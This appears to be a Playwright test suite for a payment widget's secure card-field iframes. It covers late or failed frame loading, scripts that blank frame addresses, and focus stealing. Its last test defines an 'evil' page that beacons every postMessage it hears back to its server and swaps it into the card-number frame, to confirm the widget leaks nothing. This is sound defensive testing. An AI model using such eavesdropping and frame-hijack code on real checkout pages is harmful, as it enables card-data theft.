/** Frames that do not load, come late or are replaced by the page. The shopper is told in time. */
import type { Page } from '@playwright/test';
import { MethodForm } from '../../src/testing/kit/playwright/index.ts';
import { holdBack } from '../fixtures/hold-back.ts';
import { inlineScript, nonce } from '../fixtures/merchant.ts';
import { expect, test } from '../fixtures/test.ts';

test.use({ typing: 'fill' });

const listening = `var log = []; var wpwlOptions = {
  onError: function (error) { log.push(error.name + ': ' + error.message); } };`;
const readLog = (page: Page) => page.evaluate(() => (window as unknown as { log: string[] }).log);
const notLoaded =
  'The payment form could not be loaded completely. Check the connection, then press the button.';
/** What onError is told when a field's frame does not answer. */
const silentFrame = (name: string) =>
  `PciIframeCommunicationError: The secure frame '${name}' does not answer.`;
const story = { options: listening, form: 'action="{result}" data-brands="VISA"' };

/** Moves the page's clock on, second by second, until something is told. Gives the number of seconds. */
async function countSeconds(page: Page, isTold: () => Promise<boolean>): Promise<number> {
  let seconds = 0;
  const next = async () => {
    seconds += 1;
    await page.clock.runFor(1_000);
    return isTold();
  };
  await expect.poll(next).toBe(true);
  return seconds;
}

test('a message tells within six seconds that frames are late, and goes when they are there', async ({
  open,
  page,
}) => {
  await page.clock.install();
  const release = await holdBack(page, '**/pciIframe.html*');
  const { form, resultUrl } = await open(story);
  await form.frame('card.cvv').waitFor();
  const seconds = await countSeconds(page, async () => (await form.message.count()) > 0);
  expect(seconds).toBeLessThanOrEqual(6);
  await expect(form.message).toHaveText(notLoaded);
  expect(await readLog(page)).toEqual([]);
  release();
  await expect(form.message).toHaveCount(0);
  await form.fill();
  await form.pay();
  await page.waitForURL(`${resultUrl}?*`);
});

test('frames that did not load are loaded again when the shopper presses the button, which then pays', async ({
  open,
  page,
}) => {
  await page.clock.install();
  let broken = true;
  await page.route('**/pciIframe.html*', (route) => (broken ? route.abort() : route.continue()));
  const { form, resultUrl } = await open(story);
  await form.frame('card.cvv').waitFor();
  await countSeconds(page, async () => (await form.message.count()) > 0);
  await expect(form.message).toHaveText(notLoaded);
  broken = false;
  // However long a busy computer takes to load them, the widget does not give them up meanwhile.
  await page.clock.pauseAt((await page.evaluate(() => Date.now())) + 5_000);
  await form.pay();
  await expect(form.message).toHaveCount(0);
  await page.clock.resume();
  await form.fill();
  await form.pay();
  await page.waitForURL(`${resultUrl}?*`);
});

test('a script that takes the frames’ addresses away until they are seen causes no message, and the form pays', async ({
  open,
  page,
}) => {
  const warnings: string[] = [];
  page.on('console', (message) => warnings.push(message.text()));
  const { form, resultUrl } = await open({
    ...story,
    body: '{script}{form}',
    head: inlineScript(`var taken = [];
      new MutationObserver(function () {
        document.querySelectorAll('.wpwl-form iframe[src^=http]:not([data-src])').forEach(function (frame) {
          frame.dataset.src = frame.src; frame.src = 'about:blank'; taken.push(frame);
        });
      }).observe(document, { childList: true, subtree: true });
      function give() { taken.forEach(function (frame) { frame.src = frame.dataset.src; }); }`),
  });
  await expect.poll(() => warnings.join()).toContain('loads frames only when they are seen');
  await expect(form.message).toHaveCount(0);
  await page.evaluate('give()');
  await form.fill();
  expect(await readLog(page)).toEqual([]);
  await form.pay();
  await page.waitForURL(`${resultUrl}?*`);
});

test('a payment goes on although a script takes the address of the frame without a field away', async ({
  open,
  page,
}) => {
  await open({
    form: 'action="/result" data-brands="PAYPAL"',
    body: '{script}{form}',
    head: inlineScript(`new MutationObserver(function () {
        document.querySelectorAll('iframe[src^=http]:not([data-src])').forEach(function (frame) {
          frame.dataset.src = frame.src; frame.src = 'about:blank';
        });
      }).observe(document, { childList: true, subtree: true });`),
  });
  await new MethodForm(page, 'virtualAccount-PAYPAL').button.click();
  await page.locator('button[name=choice][value=approve]').click();
  await page.waitForURL(/result\?.*resourcePath=/);
});

test('a field that is loading shows a bar in its place, and nothing moves when it has loaded', async ({
  open,
  page,
}) => {
  const release = await holdBack(page, '**/pciIframe.html*');
  const { form } = await open(story);
  const field = form.frame('card.number');
  await expect(field).toHaveAttribute('aria-busy', 'true');
  await expect(form.root).toHaveAttribute('data-state', 'loading');
  const before = await field.boundingBox();
  expect(await field.evaluate((node) => getComputedStyle(node).backgroundImage)).toContain('linear-gradient');
  release();
  await expect(field).toHaveAttribute('aria-busy', 'false');
  await expect(form.root).toHaveAttribute('data-state', 'ready');
  expect(await field.evaluate((node) => getComputedStyle(node).backgroundImage)).toBe('none');
  expect(await field.boundingBox()).toEqual(before);
});

test('onError is told of a script that takes the focus as soon as the form shows the brand of what is typed', async ({
  open,
  page,
}) => {
  const { form } = await open({ ...story, body: '{script}{form}<input id="thief">' });
  await form.number.click();
  await expect(form.frame('card.number')).toHaveClass(/wpwl-focus/);
  await form.root.evaluate((root) => {
    const observer = new MutationObserver(() => {
      observer.disconnect();
      document.querySelector<HTMLElement>('#thief')?.focus();
    });
    observer.observe(root, { attributes: true, childList: true, subtree: true });
  });
  await page.keyboard.type('4200000000000000');
  await expect
    .poll(() => readLog(page))
    .toEqual(["WidgetError: The secure frame 'card.number' lost the focus to a script."]);
});

test('onError is not told of a shopper who presses a button outside the form, or Tab, right after a key', async ({
  open,
  page,
}) => {
  const { form } = await open({ ...story, body: '<button id="before">A</button>{script}{form}' });
  await form.number.click();
  await page.keyboard.press('4');
  await page.locator('#before').click();
  await expect(page.locator('#before')).toBeFocused();
  await form.number.click();
  // The number is the first stop of the form.
  await form.root.locator('.wpwl-group-brand').evaluate((group) => group.remove());
  await page.keyboard.press('2');
  await page.keyboard.press('Shift+Tab');
  await expect(page.locator('#before')).toBeFocused();
  // The frame's messages have come when it has answered the next one.
  await form.number.click();
  await expect(form.frame('card.number')).toHaveClass(/wpwl-focus/);
  expect(await readLog(page)).toEqual([]);
});

/**
 * A document that tells its server at the address with `?heard` what it hears. It says first that it listens. It holds an
 * input of the field's name, which a widget could take for its own.
 */
const evil = `<!doctype html><title>Evil</title><input name="card.number">${inlineScript(`
  var tell = function (text) { new Image().src = location.pathname + '?heard=' + encodeURIComponent(text); };
  onmessage = function (event) { tell(JSON.stringify(event.data)); };
  tell('listening');`)}`;
test.describe('a field whose frame gets another document by src and by location', () => {
  test.use({ allowedViolations: /frame-src/ });
  test('comes back with its value, is told to onError, and sends nothing to the other document', async ({
    open,
    page,
    gateway,
    merchant,
    api,
  }) => {
    await page.clock.install();
    const { form, checkoutId, resultUrl } = await open({
      ...story,
      headers: {
        'Content-Security-Policy': `script-src 'nonce-${nonce}' ${gateway.url}; frame-src ${gateway.url} ${merchant.origin}`,
      },
    });
    await form.fill();
    const frame = form.frame('card.number');
    const silent = silentFrame('card.number');
    for (const [count, how] of ['src', 'location'].entries()) {
      const path = `/evil-by-${how}`;
      const url = merchant.serve(path, { html: evil, headers: { 'Content-Security-Policy': '' } });
      const heard = () => merchant.visits.filter((visit) => visit.startsWith(`${path}?heard=`));
      await frame.evaluate(
        (node: HTMLIFrameElement, [way, address]) => {
          if (way === 'src') node.src = address;
          else Object.assign(node.contentWindow ?? {}, { location: address });
        },
        [how, url] as const,
      );
      await expect.poll(heard).toContain(`${path}?heard=listening`);
      const isTold = async () => (await readLog(page)).filter((line) => line === silent).length > count;
      expect(await countSeconds(page, isTold), how).toBeLessThanOrEqual(5);
      await expect(form.number, how).toHaveValue('4200 0000 0000 0026');
      await expect(form.message, how).toHaveCount(0);
      expect(await api.getPaymentRequests(checkoutId), how).toHaveLength(0);
      expect(heard()).toEqual([`${path}?heard=listening`]);
    }
    await form.pay();
    await page.waitForURL(`${resultUrl}?*`);
  });
});
